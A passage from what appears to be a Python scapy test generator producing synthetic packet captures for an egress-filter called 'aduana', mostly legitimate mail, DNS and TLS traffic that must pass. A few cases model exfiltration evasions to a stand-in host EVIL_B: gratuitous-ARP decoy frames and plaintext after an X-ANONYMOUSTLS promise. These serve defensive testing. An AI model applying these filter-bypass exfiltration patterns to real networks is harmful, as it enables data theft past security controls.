    empty by default) and Exim (tls_sni unset) send no server_name at all."""
    cap = Capture()
    tls_flow(cap, S1, 52017, MAIL, 52017, n, send_whole(hello(n, sni_raw=b"")), passm(n), sport=465)
    return cap, {"pass": [passm(n)]}


@case
def case_imaps_ok(n):
    """IMAPS on 993 (Thunderbird, Outlook, iOS Mail): a ClientHello for mail.customs.example."""
    cap = Capture()
    tls_flow(cap, S1, 52018, MAIL, 52018, n, send_whole(hello(n, sni="mail.customs.example")),
             passm(n), sport=993)
    return cap, {"pass": [passm(n)]}


@case
def case_starttls_nosni_ok(n):
    """STARTTLS on 587 from Postfix as a client: its ClientHello has no server_name
    (smtp_tls_servername is empty by default; Exim's tls_sni likewise)."""
    def then(t):
        t.data(True, hello(n, sni_raw=b""))
        t.data(False, server_hello_flight(n))
        t.data(True, CCS + tls_appdata(n + "fin", 53))
        t.data(True, marked_record(passm(n), n + "req", 400))
        t.data(False, tls_appdata(n + "resp", 60))
    return starttls(n, 52019, 52019, then), {"pass": [passm(n)]}


@case
def case_smtp_slowgreet_ok(n):
    """The relay greets 12 s after the handshake: its reverse DNS lookup of the client
    timed out (Postfix smtpd, Exim and Sendmail look the client up before the banner;
    Sendmail's greet_pause and tarpits add seconds more). Then an ordinary session."""
    cap = Capture()
    t = ETcp(cap, S1, 52020, MAIL, 25, isn=52020, rtt_us=4000)
    t.handshake()
    cap.idle(12)
    smtp_start(t, False)
    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
    t.data(False, b"250 2.1.0 Ok\r\n")
    t.data(True, b"RCPT TO:<office@customs.example>\r\n")
    t.data(False, b"250 2.1.5 Ok\r\n")
    t.data(True, b"DATA\r\n")
    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
    t.data(True, b"Subject: declaration\r\n\r\n" + passm(n) + b"\r\n.\r\n")
    t.data(False, b"250 2.0.0 Ok: queued\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_dns_glibc_ok(n):
    """glibc's getaddrinfo (every Linux client): the A and AAAA queries for the e2m
    name go out back to back from one socket (one 5-tuple), and the answers come in
    the other order. The A answer is a new address for the name (outside the /28); a
    session there follows."""
    cap = Capture()
    qa = bytes(DNS(id=0x5101, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    q6 = bytes(DNS(id=0x5102, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="AAAA")))
    a6 = bytes(DNS(id=0x5102, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="AAAA"),
                   an=DNSRR(rrname=E2M_NAME, type="AAAA", ttl=300, rdata=E2M6)))
    aa = forged_dns_answer(0x5101, E2M_NAME, "198.51.100.201")
    udp(cap, S1, 52021, RESOLVER, 53, qa)
    udp(cap, S1, 52021, RESOLVER, 53, q6, gap=50)
    udp(cap, RESOLVER, 53, S1, 52021, a6, gap=2000)
    udp(cap, RESOLVER, 53, S1, 52021, aa, gap=100)
    cap.idle(0.01)
    tls_flow(cap, S1, 52022, "198.51.100.201", 52022, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n), qa, q6, a6, aa]}


@case
def case_dns_tc_tcp_ok(n):
    """A large answer (a TXT record set, DKIM keys): over UDP the resolver answers
    with TC set and no records; the client (glibc, Windows) asks again over TCP and
    gets a 3000-byte answer in three segments."""
    cap = Capture()
    name = "selector1._domainkey.customs.example"
    q = bytes(DNS(id=0x5103, rd=1, qd=DNSQR(qname=name, qtype="TXT")))
    tc = bytes(DNS(id=0x5103, qr=1, rd=1, ra=1, tc=1, qd=DNSQR(qname=name, qtype="TXT")))
    udp(cap, S1, 52023, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 52023, tc, gap=2000)
    txts = [DNSRR(rrname=name, type="TXT", ttl=300, rdata=[prand(n + "t%d" % i, 200).hex()[:250]])
            for i in range(11)]
    an = txts[0]
    for r in txts[1:]:
        an = an / r
    a = bytes(DNS(id=0x5104, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="TXT"), an=an))
    assert len(a) > 2896
    t = ETcp(cap, S1, 52024, RESOLVER, 53, isn=52024, rtt_us=4000)
    t.handshake()
    q2 = bytes(DNS(id=0x5104, rd=1, qd=DNSQR(qname=name, qtype="TXT")))
    t.data(True, struct.pack("!H", len(q2)) + q2)
    msg = struct.pack("!H", len(a)) + a
    for i in range(0, len(msg), 1448):
        t.send(False, msg[i:i + 1448])
    t.ack(True)
    t.close()
    return cap, {"pass": [q, tc, q2, a[-200:]]}


@case
def case_dns_frag_ok(n):
    """An EDNS0 answer of 2600 bytes over UDP (a resolver with edns-udp-size 4096,
    BIND's old default; DNSSEC-signed sets), IP-fragmented by the resolver in two."""
    cap = Capture()
    name = "_dmarc.customs.example"
    opt = DNSRROPT(rclass=4096)
    q = bytes(DNS(id=0x5105, rd=1, qd=DNSQR(qname=name, qtype="TXT"), ar=opt))
    txts = [DNSRR(rrname=name, type="TXT", ttl=300, rdata=[prand(n + "f%d" % i, 200).hex()[:240]])
            for i in range(10)]
    an = txts[0]
    for r in txts[1:]:
        an = an / r
    a = bytes(DNS(id=0x5105, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="TXT"), an=an, ar=opt))
    assert 1500 < len(a) < 2900
    udp(cap, S1, 52025, RESOLVER, 53, q)
    pkt = IP(src=RESOLVER, dst=S1, id=0x5105) / UDP(sport=53, dport=52025) / Raw(a)
    gap = 2000
    for f in fragments(pkt, [1480], ident=0x5105):
        cap.emit(l2(RESOLVER, S1) / f, gap)
        gap = 50
    return cap, {"pass": [q, a[-200:]]}


@case
def case_jumbo_ok(n):
    """A data-centre path with a 9000-byte MTU (jumbo frames, MSS 8960): 16 KiB
    records arrive in 8948-byte segments both ways."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52026, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52026, 81026
    opts = [("MSS", 8960), ("SAckOK", b""), ("NOP", None), ("WScale", 7)]
    t.handshake(syn_opts=opts, synack_opts=opts)
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    up = marked_record(passm(n), n + "up", 16000) + tls_appdata(n + "up2", 8000)
    rt25_bulk(t, True, up, mss=8948)
    down = tls_appdata(n + "d1", 16384) + marked_record(passm(n) + b"dn", n + "d2", 16000)
    rt25_bulk(t, False, down, mss=8948)
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"dn"]}


# --- rt25, second batch

@case
def case_srv_rst_race_ok(n):
    """The keep-alive race: the server (IIS, an L4 load balancer's idle timeout, nginx
    reset_timedout_connection) resets an idle kept-alive connection just as the client
    (a Java/.NET pool) sends its next request on it; the request, in flight, arrives
    after the RST (the server answers it with a RST; the client retries elsewhere)."""
    cap = Capture()
    t = rt25_session(cap, 52030, 52030, 81030, n)
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 600))
    cap.idle(60)
    t.raw(False, "RA")
    t.send(True, tls_appdata(n + "req2", 300), gap=300)
    t.raw(False, "R", seq=t.sseq)
    return cap, {"pass": [passm(n)]}


@case
def case_he_loser_rst_ok(n):
    """Happy Eyeballs (RFC 8305; Chrome, Firefox, Safari, curl, Go): the client opens
    IPv6 and IPv4 connections to the e2m server at once; IPv6 wins and carries the
    session, the IPv4 loser is aborted with a RST right after its handshake, without a
    byte. The loser is the flow scored here; it carries nothing to refuse."""
    cap = Capture()
    t6 = Rt25Tcp(cap, S6, 52031, E2M6, 443, rtt_us=20000)
    t6.cseq, t6.sseq = 52031, 81031
    t4 = Rt25Tcp(cap, S1, 52032, E2M, 443, rtt_us=20000)
    t4.cseq, t4.sseq = 52032, 81032
    t6.raw(True, "S", options=Tcp.SYN_OPTS)
    t6.cseq += 1
    t4.raw(True, "S", options=Tcp.SYN_OPTS, gap=250)
    t4.cseq += 1
    t6.raw(False, "SA", options=Tcp.SYN_OPTS)
    t6.sseq += 1
    t6.raw(True, "A", gap=50)
    t4.raw(False, "SA", options=Tcp.SYN_OPTS, gap=300)
    t4.sseq += 1
    t4.raw(True, "A", gap=50)
    t6.data(True, hello(n))
    t4.raw(True, "RA", gap=100)
    t6.data(False, server_hello_flight(n))
    t6.data(True, CCS + tls_appdata(n + "fin", 53))
    t6.data(True, marked_record(passm(n), n + "req", 200))
    t6.data(False, tls_appdata(n + "resp", 500))
    t6.close()
    return cap, {"pass": [passm(n)]}


@case
def case_pool_unused_ok(n):
    """A client opens a spare connection ahead of need (Chrome's and Firefox's
    speculative/pre-connects, a Java or .NET pool's minimum idle connections, a
    monitoring TCP check), never uses it, and closes it with FIN after a few seconds.
    A second connection carries the session. The unused one is scored."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52033, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52033, 81033
    t.handshake()
    tls_flow(cap, S1, 52034, E2M, 52034, n, send_whole(hello(n)), passm(n))
    cap.idle(3)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hello_late_ok(n):
    """The ClientHello comes 11 s after the TCP handshake: a connection opened ahead
    (Firefox's speculative connect, a Java SSLSocket whose handshake starts at the
    first write, a pool that connects then hands the socket out later)."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52035, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52035, 81035
    t.handshake()
    cap.idle(11)
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n)]}


def garp(mac, addr, op=1):
    """A gratuitous ARP: mac announces addr (sender and target address the
    same), broadcast; a request by default (keepalived sends requests)."""
    return Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=op, hwsrc=mac, psrc=addr, hwdst="00:00:00:00:00:00",
                                                         pdst=addr)


def gw_failover(n, cport, announce):
    """An e2m session whose gateway (10.10.0.1) moves to the standby's MAC
    after the first exchange; announce(cap, newgw): the frames in between."""
    cap = Capture()
    t = rt25_session(cap, cport, cport, cport + 29000, n)
    t.data(True, tls_appdata(n + "a", 200))
    t.data(False, tls_appdata(n + "b", 500))
    cap.idle(2)
    newgw = "02:00:00:00:fe:02"
    announce(cap, newgw)
    return cap, t, newgw


@case
def case_gw_failover_ok(n):
    """The zone's default gateway is an active/standby pair that moves its address by
    gratuitous ARP (keepalived without use_vmac, Windows/Linux clusters, cloud VIPs): the
    standby sends three gratuitous ARPs for 10.10.0.1 from its own MAC on the outside
    link, and the client's frames go to that MAC from then on. An open e2m session goes
    on through the new gateway. (The gateway's address is in the zone's subnet, so the
    replay is told the client's MAC is the inside side: --inside-mac.)"""
    def announce(cap, newgw):
        for i in range(3):
            cap.emit(garp(newgw, "10.10.0.1"), 1000)
    cap, t, newgw = gw_failover(n, 52036, announce)
    rec = marked_record(passm(n), n + "c", 200)
    cap.emit(Ether(src=host_mac_rt25(S1), dst=newgw) / IP(src=S1, dst=E2M)
             / TCP(sport=52036, dport=443, flags="PA", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
             / Raw(rec), 20000)
    t.cseq += len(rec)
    t.raw(False, "A")
    t.data(False, marked_record(passm(n) + b"srv", n + "d", 500))
    fin = Ether(src=host_mac_rt25(S1), dst=newgw) / IP(src=S1, dst=E2M) / TCP(
        sport=52036, dport=443, flags="A", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
    cap.emit(fin, 10000)
    return cap, {"pass": [passm(n), passm(n) + b"srv"], "replay_args": ["--inside-mac", host_mac_rt25(S1)]}


def gw_decoy_then_plain(n, t, cap, newgw):
    """A decoy record in a frame to newgw, then plaintext HTTP at its place to the
    real gateway."""
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    base = t.cseq
    pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base & M32,
                                                 ack=t.sseq & M32, window=64240) / Raw(decoy)
    pkt[Ether].dst = newgw
    cap.emit(pkt, 10000)
    t.raw(True, "PA", http, seq=base)
    t.cseq = base + len(http)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_garp_inside_decoy(n):
    """Twin of gw_failover_ok from the other side: the inside client itself sends a
    gratuitous ARP for a zone address from a MAC of its choosing, then a decoy record in a
    frame to that MAC (no station on the outside link has it: the server never gets it),
    then plaintext HTTP at the decoy's place to the real gateway. Only announcements on
    the outside link count. Must drop."""
    cap, t, newgw = gw_failover(n, 52043, lambda cap, mac: cap.emit(garp(mac, "10.10.1.10"), 1000))
    return gw_decoy_then_plain(n, t, cap, newgw)


@case
def case_garp_wrong_mac_decoy(n):
    """A gratuitous ARP on the outside link announces the standby's MAC, and the decoy
    record goes in a frame to yet another MAC (no station has it), then plaintext HTTP at
    its place. Only the announced MAC is taken. Must drop."""
    def announce(cap, newgw):
        cap.emit(garp(newgw, "10.10.0.1"), 1000)
    cap, t, newgw = gw_failover(n, 52044, announce)
    return gw_decoy_then_plain(n, t, cap, "02:de:ad:be:ef:02")[0], {"leak": [leak(n)], "replay_args": ["--inside-mac", host_mac_rt25(S1)]}


def host_mac_rt25(addr):
    import hashlib
    h = hashlib.sha256(addr.encode()).digest()
    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(h[:5])


@case
def case_icmp_ptb_ok(n):
    """Path MTU discovery (RFC 1191) toward the e2m server: a link past us has an MTU
    of 1400 (a tunnel, PPPoE); its router drops the client's two full-size DF
    segments and sends 'fragmentation needed' back for each, quoting 548 bytes (RFC
    1812); the client sends the same bytes again in 1348-byte segments."""
    cap = Capture()
    t = rt25_session(cap, 52037, 52037, 81037, n)
    data = tls_appdata(n + "r1", 995) + marked_record(passm(n), n + "r2", 1995) + tls_appdata(n + "r3", 200)
    base = t.cseq
    segs = [(0, 1460), (1460, 2920), (2920, len(data))]
    for a, b in segs:
        t.raw(True, "PA" if b == len(data) else "A", data[a:b], seq=base + a, ipkw={"flags": "DF"}, gap=100)
    for a, b in segs[:2]:
        q = bytes(IP(src=S1, dst=E2M, flags="DF") / TCP(sport=52037, dport=443, flags="A", seq=(base + a) & M32,
                                                        ack=t.sseq & M32, window=64240) / Raw(data[a:b]))[:548]
        icmp_err(cap, "203.0.113.1", S1, q, rest=1400, gap=3000)
    t.raw(False, "A", ack=base, options=[("NOP", None), ("NOP", None), ("SAck", ((base + 2920) & M32, (base + len(data)) & M32))])
    for a in range(0, 2920, 1348):
        b = min(a + 1348, 2920)
        t.raw(True, "A", data[a:b], seq=base + a, ipkw={"flags": "DF"}, gap=200)
    t.cseq = base + len(data)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_icmp6_ptb_ok(n):
    """The same over IPv6 (RFC 8201): an outside router's Packet Too Big (MTU 1280,
    quoting 1232 bytes, RFC 4443 2.4) for the client's 1440-byte segment, which is sent
    again in 1220-byte segments."""
    from scapy.layers.inet6 import ICMPv6PacketTooBig
    cap = Capture()
    t = rt25_session(cap, 52038, 52038, 81038, n, c=S6, s=E2M6)
    data = marked_record(passm(n), n + "r1", 1300) + tls_appdata(n + "r2", 700)
    base = t.cseq
    t.raw(True, "A", data[:1440], seq=base, gap=100)
    t.raw(True, "PA", data[1440:], seq=base + 1440, gap=100)
    q = bytes(IPv6(src=S6, dst=E2M6) / TCP(sport=52038, dport=443, flags="A", seq=base & M32,
                                           ack=t.sseq & M32, window=64240) / Raw(data[:1440]))[:1232]
    cap.emit(l2("2001:db8:ffff::1", S6) / IPv6(src="2001:db8:ffff::1", dst=S6) / ICMPv6PacketTooBig(mtu=1280)
             / Raw(q), 3000)
    t.raw(False, "A", ack=base, options=[("NOP", None), ("NOP", None), ("SAck", ((base + 1440) & M32, (base + len(data)) & M32))])
    for a in range(0, 1440, 1220):
        b = min(a + 1220, 1440)
        t.raw(True, "A", data[a:b], seq=base + a, gap=200)
    t.cseq = base + len(data)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_exch_bdat_ok(n):
    """Exchange (and Exim with CHUNKING) as a client: after EHLO, MAIL FROM, RCPT TO
    and BDAT n LAST with the message's bytes pipelined in one segment (RFC 3030 4.2
    lets BDAT be pipelined; RFC 2920)."""
    cap = Capture()
    t = ETcp(cap, S1, 52039, MAIL, 25, isn=52039, rtt_us=4000)
    t.handshake()
    t.data(False, b"220 mail.customs.example Microsoft ESMTP MAIL Service ready\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example Hello [10.10.1.10]\r\n250-SIZE 37748736\r\n250-PIPELINING\r\n"
                  b"250-DSN\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n250-BINARYMIME\r\n"
                  b"250-CHUNKING\r\n250 XRDST\r\n")
    msg = (b"From: <declarant@e2m.customs.example>\r\nTo: <office@customs.example>\r\n"
           b"Subject: chunked\r\nMIME-Version: 1.0\r\n\r\n" + passm(n) + b"\r\n" + prand(n, 200).hex().encode() + b"\r\n")
    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example> SIZE=%d BODY=BINARYMIME\r\n" % len(msg)
           + b"RCPT TO:<office@customs.example>\r\n" + b"BDAT %d LAST\r\n" % len(msg) + msg)
    t.data(False, b"250 2.1.0 Sender OK\r\n250 2.1.5 Recipient OK\r\n250 2.6.0 Queued mail for delivery\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Service closing transmission channel\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_imaps_nosni_ok(n):
    """IMAPS on 993 without server_name (fetchmail, older Outlook/Java Mail, scripts
    with Python's imaplib given an address)."""
    cap = Capture()
    tls_flow(cap, S1, 52040, MAIL, 52040, n, send_whole(hello(n, sni_raw=b"")), passm(n), sport=993)
    return cap, {"pass": [passm(n)]}


@case
def case_pops_ok(n):
    """POP3S on 995 with SNI mail.customs.example."""
    cap = Capture()
    tls_flow(cap, S1, 52041, MAIL, 52041, n, send_whole(hello(n, sni="mail.customs.example")),
             passm(n), sport=995)
    return cap, {"pass": [passm(n)]}


@case
def case_dns_update_ok(n):
    """A Windows domain member registers its address with the zone's DNS server (DNS
    dynamic update, RFC 2136, opcode 5: at boot, every 24 h, on an address change):
    an SOA query first, then the UPDATE (zone, a prerequisite, the A record), and the
    server's NOERROR."""
    cap = Capture()
    zone = "customs.example"
    host = "ws-10.e2m.customs.example"
    soa_q = bytes(DNS(id=0x5142, rd=0, qd=DNSQR(qname=host, qtype="SOA")))
    soa_a = bytes(DNS(id=0x5142, qr=1, aa=1, qd=DNSQR(qname=host, qtype="SOA"),
                      ns=DNSRR(rrname=zone, type="SOA", ttl=3600, rdata=b"\x00" * 22)))
    body = (DNSQR(qname=zone, qtype="SOA"))
    upd = bytes(DNS(id=0x5143, opcode=5, qd=body,
                    an=DNSRR(rrname=host, type="CNAME", rclass=254, ttl=0, rdata=b""),
                    ns=DNSRR(rrname=host, type="A", ttl=1200, rdata=S1)))
    upd_a = bytes(DNS(id=0x5143, qr=1, opcode=5, qd=body))
    udp(cap, S1, 52042, RESOLVER, 53, soa_q)
    udp(cap, RESOLVER, 53, S1, 52042, soa_a, gap=2000)
    udp(cap, S1, 52042, RESOLVER, 53, upd)
    udp(cap, RESOLVER, 53, S1, 52042, upd_a, gap=2000)
    return cap, {"pass": [soa_q, soa_a, upd, upd_a]}


@case
def case_dns_ttl_java_ok(n):
    """The e2m name's answer has a 20 s TTL (a cloud load balancer's: Akamai 20 s,
    AWS ELB 60 s); a Java client keeps resolved addresses 30 s whatever the TTL
    (networkaddress.cache.ttl's default), and opens its next connection at 25 s
    without asking again."""
    cap = Capture()
    dns_learn_flow(cap, 52043, 0x5143, [forged_dns_answer(0x5143, E2M_NAME, "198.51.100.202", ttl=20)])
    cap.idle(0.01)
    tls_flow(cap, S1, 52044, "198.51.100.202", 52044, n + "a", send_whole(hello(n + "a")), passm(n) + b"a")
    cap.idle(25)
    tls_flow(cap, S1, 52045, "198.51.100.202", 52045, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n) + b"a", passm(n)]}


@case
def case_dns_ttl_long_ok(n):
    """A session opened to an address learned with a 20 s TTL lasts longer than the TTL
    (an HTTP/2 connection, a long download): its records go on at 40 s."""
    cap = Capture()
    dns_learn_flow(cap, 52046, 0x5146, [forged_dns_answer(0x5146, E2M_NAME, "198.51.100.203", ttl=20)])
    cap.idle(0.01)
    t = rt25_session(cap, 52047, 52047, 81047, n, s="198.51.100.203")
    cap.idle(40)
    t.data(True, marked_record(passm(n), n + "late", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "late2", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


# --- rt25, third batch

class Rt25PadCap(Capture):
    """A capture whose frames under 60 bytes are padded to the Ethernet minimum, as
    every NIC puts them on the wire (IEEE 802.3: 64 bytes with the FCS). fill: the
    padding's bytes (zeros, or what an old driver leaves in its buffer)."""

    def __init__(self, fill=b"\x00"):
        super().__init__()
        self.fill = fill

    def emit(self, pkt, gap_us=1000):
        raw = bytes(pkt)
        if len(raw) < 60:
            pad = (self.fill * 60)[:60 - len(raw)]
            pkt = Ether(raw + pad)
        super().emit(pkt, gap_us)


def rt25_pad_session(cap, cport, n):
    t = rt25_session(cap, cport, cport, cport + 30000, n)
    # a record whose header comes alone in a 5-byte segment (a 59-byte frame), then its body
    rec = marked_record(passm(n), n + "r", 300)
    t.send(True, rec[:5])
    t.send(True, rec[5:])
    t.ack(False)
    t.raw(True, "A", b"\x00", seq=t.cseq - 1, gap=200000)   # a Windows keep-alive (55 bytes)
    t.raw(False, "A")
    t.data(False, marked_record(passm(n) + b"srv", n + "s", 400))
    t.data(True, record(21, prand(n + "cn", 19), 0x0303))
    t.close()


@case
def case_eth_pad_ok(n):
    """Every frame under 60 bytes (bare ACKs, the handshake, a 1-byte keep-alive, a
    segment holding only a 5-byte record header) carries the Ethernet padding that
    NICs add on the wire; the IPv4 total length says where the datagram ends."""
    cap = Rt25PadCap()
    rt25_pad_session(cap, 52050, n)
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_eth_pad_junk_ok(n):
    """The same padding filled with non-zero bytes (drivers that pad from a stale
    buffer, CVE-2003-0001 'Etherleak', still seen in embedded NICs and some switches)."""
    cap = Rt25PadCap(fill=b"\xa5\x5a\x13")
    rt25_pad_session(cap, 52051, n)
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_syn_retry_ok(n):
    """The server's SYN backlog is full (or the path loses the SYNs): Linux sends its
    SYN again at 1, 3, 7 and 15 s (tcp_syn_retries, RTO doubling), the last is
    answered; the ClientHello and the session follow at once."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52052, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52052, 81052
    gap = None
    for d in (0, 1, 2, 4, 8):
        t.raw(True, "S", options=Tcp.SYN_OPTS, gap=gap)
        gap = d * 1000000 if d else None
        gap = {0: 1000000, 1: 2000000, 2: 4000000, 4: 8000000, 8: 1}[d]
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_srv_slow_ok(n):
    """The server answers the ClientHello after 11 s (an overloaded server, a TLS
    terminator waiting on its HSM or on an OCSP fetch for stapling); the session then
    goes on normally."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52053, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52053, 81053
    t.handshake()
    t.data(True, hello(n))
    cap.idle(11)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_stream_small_ok(n):
    """A streaming API (gRPC server streaming, server-sent events, market data) with
    TCP_NODELAY: the server writes 300 small messages, each its own TLS record and
    segment, within one round trip of a 100 ms path; the client's ACKs come a round
    trip later. The capture follows what the client can get through aduana (256
    records; the rest after the server's retransmission timeout)."""
    cap = Capture()
    t = rt25_session(cap, 52054, 52054, 81054, n)
    base = t.sseq
    k = 300
    recs = [marked_record(passm(n) + b"%03d" % i, n + "m%d" % i, 40) for i in range(k)]
    off = 0
    for r in recs:
        t.raw(False, "PA", r, seq=base + off, gap=300)
        off += len(r)
    t.sseq = base + off
    cap.idle(0.05)
    # the client got the first 256 (aduana's header log holds 256 records a direction;
    # it drops the 257th and holds/drops the rest): it acknowledges those
    got = 256
    for i in range(0, got, 2):
        t.raw(True, "A", ack=base + sum(len(r) for r in recs[:i + 2]), gap=200)
    # the server's retransmission timeout: the rest again, then the client's ACKs
    off = sum(len(r) for r in recs[:got])
    for r in recs[got:]:
        t.raw(False, "PA", r, seq=base + off, gap=300 if off else 250000)
        off += len(r)
    t.raw(True, "A", ack=base + off, gap=200)
    t.data(True, tls_appdata(n + "req", 80))
    t.close()
    return cap, {"pass": [passm(n) + b"%03d" % i for i in (0, 150, 299)]}


# --- rt25, fourth batch

@case
def case_smtplib_ok(n):
    """Python's smtplib (cron jobs, monitoring, scripts): lower-case verbs ('ehlo',
    'mail FROM:', 'rcpt TO:', 'data', 'quit'), upper-case STARTTLS-less plain SMTP."""
    cap = Capture()
    t = ETcp(cap, S1, 52060, MAIL, 25, isn=52060, rtt_us=4000)
    t.handshake()
    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
    t.data(True, b"ehlo ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
                  b"250-8BITMIME\r\n250 SMTPUTF8\r\n")
    t.data(True, b"mail FROM:<declarant@e2m.customs.example> size=120\r\n")
    t.data(False, b"250 2.1.0 Ok\r\n")
    t.data(True, b"rcpt TO:<office@customs.example>\r\n")
    t.data(False, b"250 2.1.5 Ok\r\n")
    t.data(True, b"data\r\n")
    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
    t.data(True, b"From: declarant@e2m.customs.example\r\nSubject: nightly report\r\n\r\n" + passm(n) + b"\r\n.\r\n")
    t.data(False, b"250 2.0.0 Ok: queued\r\n")
    t.data(True, b"quit\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_exch_anontls_ok(n):
    """Exchange transport between servers of one organisation (Hub/Edge): after EHLO the
    client sends X-ANONYMOUSTLS (Exchange's own STARTTLS), the server answers 220, and
    TLS follows."""
    cap = Capture()
    t = ETcp(cap, S1, 52061, MAIL, 25, isn=52061, rtt_us=4000)
    t.handshake()
    t.data(False, b"220 mail.customs.example Microsoft ESMTP MAIL Service ready\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example Hello [10.10.1.10]\r\n250-SIZE\r\n250-PIPELINING\r\n"
                  b"250-STARTTLS\r\n250-X-ANONYMOUSTLS\r\n250-AUTH NTLM\r\n250-X-EXPS GSSAPI NTLM\r\n"
                  b"250-8BITMIME\r\n250-BINARYMIME\r\n250-CHUNKING\r\n250 XEXCH50\r\n")
    t.data(True, b"X-ANONYMOUSTLS\r\n")
    t.data(False, b"220 2.0.0 SMTP server ready\r\n")
    t.data(True, hello(n, sni="mail.customs.example"))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 400))
    t.data(False, tls_appdata(n + "resp", 60))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_exch_anontls_plain(n):
    """X-ANONYMOUSTLS answered 220, then the client goes on in plaintext (a command
    line with the marker): Exchange's STARTTLS holds its promise like STARTTLS."""
    cap = Capture()
    t = ETcp(cap, S1, 52066, MAIL, 25, isn=52066, rtt_us=4000)
    t.handshake()
    t.data(False, b"220 mail.customs.example Microsoft ESMTP MAIL Service ready\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
    t.data(False, b"250-mail.customs.example Hello [10.10.1.10]\r\n250-X-ANONYMOUSTLS\r\n"
                  b"250 CHUNKING\r\n")
    t.data(True, b"X-ANONYMOUSTLS\r\n")
    t.data(False, b"220 2.0.0 SMTP server ready\r\n")
    t.data(True, b"MAIL FROM:<" + leak(n) + b"@" + EVIL_B + b">\r\n")
    t.data(False, b"250 2.1.0 Sender OK\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_exch_xexps_ok(n):
    """Exchange's own authentication verb (X-EXPS, a verb with a hyphen: RFC 5321
    4.1.2's Ldh-str) on a plaintext session, then a message."""
    cap = Capture()
    t = ETcp(cap, S1, 52067, MAIL, 25, isn=52067, rtt_us=4000)
    t.handshake()
    t.data(False, b"220 mail.customs.example Microsoft ESMTP MAIL Service ready\r\n")
    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
